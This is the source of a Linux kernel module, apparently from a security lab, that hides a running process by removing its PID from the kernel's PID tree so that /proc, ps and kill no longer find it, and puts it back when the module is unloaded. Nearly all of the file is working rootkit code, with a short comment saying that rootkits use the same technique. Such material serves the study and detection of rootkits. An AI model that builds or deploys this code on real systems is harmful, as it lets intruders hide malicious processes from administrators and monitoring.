// SPDX-License-Identifier: GPL-2.0-only
/*
 * evil-pid pid=N - takes a running process's number out of the tree of pids:
 * /proc has no folder for it, kill and ps do not know it, and it runs on.
 * Rootkits do it by the tree, or by hooks that leave the number out.
 *
 * Removing the module puts it back.
 */
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched/task.h>

#include "evil.h"

static int pid;
module_param(pid, int, 0);

static spinlock_t *tree_lock;
static struct pid *hidden;

static int __init evil_init(void)
{
	tree_lock = (void *)evil_symbol("pidmap_lock");
	hidden = find_get_pid(pid);
	if (!tree_lock || !hidden)
		return -ESRCH;
	spin_lock_irq(tree_lock);
	idr_remove(&init_pid_ns.idr, pid);
	spin_unlock_irq(tree_lock);
	return 0;
}

static void __exit evil_exit(void)
{
	idr_preload(GFP_KERNEL);
	spin_lock_irq(tree_lock);
	if (!hlist_empty(&hidden->tasks[PIDTYPE_PID]))
		idr_alloc(&init_pid_ns.idr, hidden, pid, pid + 1, GFP_ATOMIC);
	spin_unlock_irq(tree_lock);
	idr_preload_end();
	put_pid(hidden);
}

module_init(evil_init);
module_exit(evil_exit);
MODULE_DESCRIPTION("lab: hides a process from the tree of pids");
MODULE_LICENSE("GPL");
